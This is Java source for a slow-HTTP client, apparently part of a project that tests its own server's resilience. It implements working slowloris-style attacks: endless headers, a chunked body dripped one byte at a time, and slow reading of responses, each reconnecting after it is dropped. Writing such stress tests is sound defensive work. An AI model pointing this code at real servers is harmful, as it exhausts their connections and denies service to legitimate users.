package fr.avenant.allinone.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

/**
 * A client that keeps a connection as long as it can by doing as little as it can, and comes back
 * when it is thrown out.
 *
 * @param address scheme, host and port
 * @param begin what it sends at once
 * @param drip what it sends again and again; empty if it reads instead, a byte at a time
 */
record SlowClient(String address, String begin, String drip) {

    private static final long PAUSE = 400_000_000;
    private static final long AWAY = 2_000_000_000;
    private static final int SMALL = 1_024;

    /** Sends the head of a command, and its body a chunk of a byte at a time. */
    static SlowClient ofBody(String address, String path, String headers) {
        return new SlowClient(
                address,
                "POST "
                        + path
                        + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + headers
                        + "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"id\"\r\n",
                "1\r\n \r\n");
    }

    /** Sends a head that does not end. */
    static SlowClient ofHead(String address, String path) {
        return new SlowClient(
                address, "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n", "X-A: b\r\n");
    }

    /** Asks for much and reads little. */
    static SlowClient ofAnswer(String address, String path, String headers) {
        return new SlowClient(
                address, "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\n", "");
    }

    /** For as long as it is asked to. */
    void run(BooleanSupplier goesOn) {
        while (goesOn.getAsBoolean()) {
            try (var socket = new Socket()) {
                socket.setReceiveBufferSize(SMALL);
                var uri = URI.create(address);
                socket.connect(new InetSocketAddress(uri.getHost(), uri.getPort()));
                socket.getOutputStream().write(begin.getBytes(US_ASCII));
                dawdle(socket, goesOn);
            } catch (IOException thrownOut) {
                // it comes back
            }
            LockSupport.parkNanos(AWAY);
        }
    }

    private void dawdle(Socket socket, BooleanSupplier goesOn) throws IOException {
        while (goesOn.getAsBoolean()) {
            if (drip.isEmpty()) {
                if (socket.getInputStream().read() < 0) {
                    return;
                }
            } else {
                socket.getOutputStream().write(drip.getBytes(US_ASCII));
            }
            LockSupport.parkNanos(PAUSE);
        }
    }
}
